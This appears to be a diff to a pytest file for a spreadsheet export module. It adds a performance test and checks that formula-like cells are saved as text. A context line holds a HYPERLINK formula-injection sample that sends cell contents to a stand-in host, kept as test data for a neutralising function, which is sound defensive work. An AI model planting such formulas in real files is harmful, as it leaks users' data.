@@ -9,7 +9,13 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from planner.export.spreadsheet import FORMULA_STARTS, csv_bytes, neutralise, table_bytes
+from planner.export.spreadsheet import (
+    FORMULA_STARTS,
+    csv_bytes,
+    neutralise,
+    table_bytes,
+    xlsx_bytes,
+)
 
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?d="&A1,"Click")',
@@ -69,3 +75,29 @@ def test_xlsx_refuses_a_time_with_a_zone_rather_than_shift_it_silently():
 def test_an_unknown_format_is_refused():
     with pytest.raises(ValueError, match="unknown table format"):
         table_bytes(["a"], [], "ods")
+
+
+def test_each_row_is_formatted_by_its_number_not_by_scanning_the_sheet(monkeypatch):
+    """``ws[ws.max_row]`` after each append scanned every cell written so far: a
+    5,000-row worklist took 9 s, the 78,000 forms of a long history hours."""
+    from openpyxl.worksheet.worksheet import Worksheet
+
+    scans = []
+    for name in ("max_row", "max_column"):
+        whole = getattr(Worksheet, name)
+        monkeypatch.setattr(
+            Worksheet,
+            name,
+            property(
+                lambda self, whole=whole, name=name: (scans.append(name), whole.fget(self))[1]
+            ),
+        )
+    rows = [[f"=row{i}", dt.date(2026, 1, 1 + i % 28), i] for i in range(3_000)]
+    data = xlsx_bytes(["Text", "Day", "N"], rows, "Sheet1")
+    assert len(scans) < 20  # the writer's own look at the sheet, not one a row
+    monkeypatch.undo()
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet.max_row == 3_001
+    last = list(sheet[3_001])
+    assert last[0].value == "'=row2999" and last[0].data_type == "s"  # text, never a formula
+    assert last[1].number_format == "yyyy-mm-dd" and last[2].value == 2999
